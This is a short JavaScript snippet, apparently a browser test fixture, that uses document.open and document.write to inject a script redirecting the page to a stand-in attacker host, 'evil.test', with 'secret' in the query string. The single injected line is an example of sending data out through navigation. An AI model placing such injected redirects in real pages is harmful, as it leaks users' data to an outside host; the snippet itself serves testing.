// Writes a document that navigates.

document.open();
document.write('<script>location="http://evil.test/?secret"</' + 'script>');
document.close();
